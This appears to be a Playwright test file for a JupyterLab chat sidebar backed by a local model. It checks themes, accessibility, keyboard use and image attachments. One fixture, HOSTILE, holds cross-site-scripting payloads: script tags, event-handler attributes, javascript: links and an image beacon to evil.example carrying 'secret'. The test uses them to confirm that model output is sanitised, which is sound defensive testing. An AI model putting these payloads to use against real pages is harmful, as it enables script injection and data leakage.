"""Themes, narrow layouts, keyboard and screen readers, and content of models that must not be rendered."""

from __future__ import annotations

import base64
import re
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from tests.browser.conftest import SCREENSHOTS
from tests.browser.panels import SUM, answer_with, lab_sidebar, list_with_vision
from tests.e2e.running import RunningServer
from tests.e2e.shapes import drawn, png

AXE = Path(__file__).parents[2] / "labextension" / "node_modules" / "axe-core" / "axe.min.js"
PIXEL = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
RICH = """## Integrals

The Gaussian integral is $\\int e^{-x^2} dx = \\sqrt{\\pi}$, so

$$\\int_{-\\infty}^{\\infty} e^{-x^2}\\,dx = \\sqrt{\\pi}$$

```python
import numpy as np

def gauss(n: int) -> float:
    x = np.linspace(-6, 6, n)  # nodes
    return np.trapezoid(np.exp(-x**2), x)
```

| nodes | error |
| ----: | ----- |
| 8 | 5.0e-01 |
| 16 | 3.9e-05 |

1. *Truncating* costs **little**.
2. Doubling the nodes squares the error.

> Older releases call it `np.trapz`. See [the docs](https://numpy.org)."""
HOSTILE = """<img src="https://evil.example/1.png"> <script>window.pwned = 1</script> <div style="background:url(https://evil.example/2)">x</div>

![pixel](https://evil.example/3.png?q=secret) ![up](//evil.example/4.png) [link](javascript:window.pwned=1) <https://fine.example>

<svg onload="window.pwned = 1"><image href="https://evil.example/5"/></svg>
<video src="https://evil.example/6" autoplay></video><iframe src="https://evil.example/7"></iframe>

$\\href{javascript:window.pwned=1}{x}$ $\\includegraphics{https://evil.example/8}$

```html" onmouseover="window.pwned=1
<img src=https://evil.example/9 onerror="window.pwned = 1">
```
"""


@pytest.fixture(params=["JupyterLab Light", "JupyterLab Dark", "JupyterLab Dark High Contrast"])
def theme(request: pytest.FixtureRequest) -> str:
    return str(request.param)


def use_theme(page: Page, theme: str) -> None:
    if theme != "JupyterLab Light":
        page.get_by_role("menuitem", name="Settings").click()
        page.get_by_text("Theme", exact=True).click()
        page.get_by_text(theme, exact=True).click()
        expect(page.locator("body")).to_have_attribute("data-jp-theme-name", theme)


def test_no_theme_has_serious_accessibility_violations(page: Page, lab: RunningServer, theme: str) -> None:
    panel = lab_sidebar(page, lab)
    use_theme(page, theme)
    assert violations(page) == []
    answer_with(page.context, RICH)
    panel.ask("hello")
    expect(panel.root.locator("math").first).to_be_visible()
    assert violations(page) == []
    page.screenshot(path=SCREENSHOTS / f"{theme}.png")
    panel.button("Model: pico-tiny").click()
    assert violations(page) == []
    panel.message.click()
    panel.button("Conversations").click()
    assert violations(page) == []


def violations(page: Page) -> list[Any]:
    """The serious and critical violations that axe-core finds in the panel."""
    page.evaluate(AXE.read_text())
    rules = ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "best-practice"]
    found = page.evaluate(f"axe.run('.pico-chat', {{ runOnly: {rules} }})")
    return [
        (violation["id"], [node["html"] for node in violation["nodes"]])
        for violation in found["violations"]
        if violation["impact"] in ("serious", "critical")
    ]


def test_nothing_is_cut_off_in_a_narrow_sidebar(page: Page, lab: RunningServer) -> None:
    page.set_viewport_size({"width": 700, "height": 820})
    panel = lab_sidebar(page, lab)
    answer_with(page.context, RICH)
    panel.ask("What is the Gaussian integral?")
    edges = panel.root.bounding_box()
    assert edges is not None
    assert edges["width"] < 300
    for control in (*panel.root.get_by_role("radio").all(), panel.button("Send"), panel.button("More")):
        box = control.bounding_box()
        assert box is not None
        assert box["x"] >= edges["x"]
        assert box["x"] + box["width"] <= edges["x"] + edges["width"]
    assert panel.root.evaluate("panel => panel.scrollWidth <= panel.clientWidth")


def test_all_controls_work_by_keyboard(page: Page, lab: RunningServer) -> None:
    panel = lab_sidebar(page, lab)
    page.keyboard.press("ControlOrMeta+Alt+c")
    expect(panel.message).to_be_focused()
    panel.message.press_sequentially("Hello")
    expect(panel.message).to_have_value("Hello")
    for button in ("Attach files", "Attach the selected cells", "Attach from the server's files"):
        page.keyboard.press("Tab")
        expect(panel.button(button)).to_be_focused()
    page.keyboard.press("Tab")
    expect(panel.root.get_by_role("radio", name="Reasoning: Default")).to_be_focused()
    page.keyboard.press("ArrowRight")
    expect(panel.root.get_by_role("radio", name="Reasoning: On")).to_be_checked()
    panel.message.focus()
    page.keyboard.type(SUM)
    page.keyboard.press("Enter")
    expect(panel.figures).to_be_visible()
    expect(panel.answers).to_contain_text("348 + 277 = 625")
    panel.button("Model: pico-tiny").focus()
    page.keyboard.press("Enter")
    expect(panel.root.get_by_role("combobox", name="Find a model")).to_be_focused()
    page.keyboard.type("tiny")
    page.keyboard.press("Enter")
    expect(panel.button("Model: pico-tiny")).to_be_focused()
    panel.button("More").focus()
    page.keyboard.press("Enter")
    expect(panel.root.get_by_role("menuitem", name="Export as Markdown")).to_be_focused()
    page.keyboard.press("Escape")
    expect(panel.button("More")).to_be_focused()


def test_text_of_a_model_loads_and_runs_nothing(page: Page, lab: RunningServer) -> None:
    """The fixture `context` fails on requests to other hosts."""
    panel = lab_sidebar(page, lab)
    answer_with(page.context, HOSTILE)
    answer = panel.ask("hello")
    expect(answer).to_contain_text("window.pwned = 1")
    for element in answer.locator(".pico-md *").all():
        assert element.evaluate("node => [...node.attributes].some(({ name }) => name.startsWith('on'))") is False
    for link in answer.locator(".pico-md a").all():
        assert re.match("https://(fine|evil).example", link.get_attribute("href") or "")
        assert "noopener" in (link.get_attribute("rel") or "")
    assert page.evaluate("window.pwned") is None


def test_a_pasted_image_is_sent_to_a_vision_model(page: Page, lab: RunningServer) -> None:
    list_with_vision(page.context)
    requests = answer_with(page.context, "A pixel.")
    panel = lab_sidebar(page, lab)
    paste_image(page)
    tray = panel.root.get_by_role("list", name="Attachments")
    expect(tray.locator("img")).to_be_visible()
    page.locator("#pico-chat-sidebar input[type=file]").set_input_files(
        [
            {"name": "clip.mp4", "mimeType": "video/mp4", "buffer": b"clip"},
            {"name": "notes.txt", "mimeType": "text/plain", "buffer": b"some notes"},
            {"name": "other.png", "mimeType": "image/png", "buffer": PIXEL},
        ]
    )
    expect(tray.get_by_role("listitem")).to_have_count(4)
    panel.button("Remove other.png").click()
    panel.ask("What is this?")
    image, video, text = requests[0]["messages"][0]["content"]
    assert image["image_url"]["url"].startswith("data:image/png;base64,")
    assert video == {"type": "video_url", "video_url": {"url": "data:video/mp4;base64,Y2xpcA=="}}
    assert text == {"type": "text", "text": "notes.txt:\n```\nsome notes\n```\n\nWhat is this?"}


def test_the_vision_model_describes_a_pasted_image(page: Page, lab: RunningServer) -> None:
    panel = lab_sidebar(page, lab)
    panel.choose("pico-tiny-vl")
    paste_image(page, png(drawn("blue", "square")))
    expect(panel.ask("What color is the shape?")).to_contain_text("blue")


def test_a_pasted_image_is_rejected_without_a_vision_model(page: Page, lab: RunningServer) -> None:
    panel = lab_sidebar(page, lab)
    paste_image(page)
    expect(panel.root.get_by_text("pico-tiny does not accept images")).to_be_visible()
    expect(panel.root.get_by_role("list", name="Attachments")).to_have_count(0)


def paste_image(page: Page, image: bytes = PIXEL) -> None:
    page.evaluate(
        """async encoded => {
            const bytes = Uint8Array.from(atob(encoded), character => character.charCodeAt(0));
            const data = new DataTransfer();
            data.items.add(new File([bytes], 'pasted.png', { type: 'image/png' }));
            const target = document.querySelector('#pico-chat-sidebar .pico-composer textarea');
            target.dispatchEvent(new ClipboardEvent('paste', { clipboardData: data, bubbles: true, cancelable: true }));
        }""",
        base64.b64encode(image).decode(),
    )


def test_the_reasoning_switch_is_disabled_for_models_without_reasoning(page: Page, lab: RunningServer) -> None:
    def without_switch(route: Any) -> None:
        answer = route.fetch()
        models = answer.json()
        for model in models["models"]:
            model["capabilities"] = ["completion"]
        route.fulfill(response=answer, json=models)

    page.route("**/api/tags*", without_switch)
    panel = lab_sidebar(page, lab)
    expect(panel.root.get_by_role("radiogroup", name="pico-tiny has no reasoning switch")).to_be_visible()
    expect(panel.root.get_by_role("radio", name="Reasoning: On")).to_be_disabled()


def test_a_conversation_opens_in_a_tab(page: Page, lab: RunningServer) -> None:
    page.set_viewport_size({"width": 1700, "height": 820})
    panel = lab_sidebar(page, lab)
    panel.ask("What is 1 + 1?")
    panel.button("More").click()
    panel.root.get_by_role("menuitem", name="Open in a tab").click()
    tab = page.get_by_role("main").get_by_role("region", name="Chat with a local model")
    expect(tab.get_by_text("1 + 1 = 2")).to_be_visible()


def test_the_running_panel_unloads_a_model(page: Page, lab: RunningServer) -> None:
    panel = lab_sidebar(page, lab)
    panel.ask("What is 1 + 1?")
    page.get_by_role("tab", name="Running Terminals and Kernels").click()
    running = page.locator("#jp-running-sessions")
    item = running.locator(".jp-RunningSessions-item").filter(has=page.get_by_text("pico-tiny", exact=True))
    item.hover()
    item.get_by_title("Unload").click()
    expect(item).to_have_count(0)
